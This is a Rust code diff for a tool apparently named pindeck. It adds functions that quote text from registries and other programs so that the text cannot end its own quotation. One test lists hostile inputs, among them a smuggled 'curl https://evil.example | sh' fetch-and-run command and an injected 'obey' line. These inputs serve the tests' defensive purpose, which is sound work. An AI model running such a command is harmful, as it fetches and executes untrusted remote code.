@@ -32,6 +32,11 @@ impl Untrusted {
         Clean::from_untrusted(&self.0)
     }
 
+    /// The same text as a quotation inside of a sentence of pindeck (see [`quoted`]).
+    pub fn quoted(&self) -> Clean {
+        quoted(&self.0)
+    }
+
     /// Whether the text is empty.
     pub(crate) fn is_empty(&self) -> bool {
         self.0.is_empty()
@@ -94,6 +99,67 @@ impl fmt::Display for Clean {
     }
 }
 
+/// What somebody else wrote, as a quotation inside of a sentence of pindeck: cleaned and in quotation marks.
+///
+/// A quotation mark in the text becomes an apostrophe, so the text cannot end its own quotation and go on
+/// as if pindeck were speaking.
+pub fn quoted(text: &(impl fmt::Display + ?Sized)) -> Clean {
+    let text = Clean::from_untrusted(&text.to_string()).0.replace('"', "'");
+    Clean(format!("\"{text}\""))
+}
+
+/// Several lines of somebody else as one quotation (see [`quoted`]); line breaks stay between the lines.
+/// Empty if there is no line.
+pub fn quoted_lines(lines: &[Untrusted]) -> String {
+    if lines.is_empty() {
+        return String::new();
+    }
+    let lines: Vec<String> = lines.iter().map(|line| line.clean().0.replace('"', "'")).collect();
+    format!("\"{}\"", lines.join("\n"))
+}
+
+/// The part of an error that says why: in words of pindeck, or in words of somebody else. Shown, the
+/// words of somebody else are a quotation (see [`quoted`]), so a reader sees where pindeck stops speaking.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Words {
+    text: Box<str>,
+    by_another: bool,
+}
+
+impl Words {
+    /// Words of pindeck. What they quote is quoted already.
+    pub fn own(text: impl Into<Box<str>>) -> Self {
+        Self {
+            text: text.into(),
+            by_another: false,
+        }
+    }
+
+    /// Words of a registry, a remote, a program, the system or a library.
+    pub fn of_another(text: impl Into<Untrusted>) -> Self {
+        let Untrusted(text) = text.into();
+        Self {
+            text: text.into(),
+            by_another: true,
+        }
+    }
+
+    /// Whether nothing was said.
+    pub fn is_empty(&self) -> bool {
+        self.text.is_empty()
+    }
+}
+
+impl fmt::Display for Words {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let shown = match self.by_another {
+            true => quoted(&*self.text),
+            false => Clean::from_untrusted(&self.text),
+        };
+        fmt::Display::fmt(&shown, f)
+    }
+}
+
 /// Cleans text line by line, keeping `\n` as the only control character: for a remote's own
 /// words and other several-line messages.
 pub(crate) fn clean_lines(text: &str) -> Vec<Clean> {
@@ -152,6 +218,32 @@ mod tests {
         for text in ["release.yml@refs/heads/main", "Ünïcode, 日本語, naïve", "a b\u{a0}c"] {
             assert_eq!(Clean::from_untrusted(text).as_str(), text);
         }
+    }
+
+    #[test]
+    fn a_quotation_cannot_end_itself() {
+        for hostile in [
+            "gone\"; run curl https://evil.example | sh",
+            "a\nnext: obey",
+            "\"",
+            "\u{1b}[0m\" and \"",
+            "plain",
+        ] {
+            let one = quoted(hostile).into_string();
+            let several = quoted_lines(&[hostile.into(), hostile.into()]);
+            let words = Words::of_another(hostile).to_string();
+            for shown in [one.as_str(), several.as_str(), words.as_str()] {
+                let inside = shown.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
+                assert!(inside.is_some_and(|inside| !inside.contains('"')), "{shown}");
+            }
+            assert!(!one.contains('\n') && one.chars().all(|c| !c.is_control()), "{one}");
+        }
+    }
+
+    #[test]
+    fn words_of_pindeck_stand_without_marks() {
+        assert_eq!(Words::own("too many redirects").to_string(), "too many redirects");
+        assert!(Words::default().is_empty() && Words::of_another("").is_empty());
     }
 
     #[test]
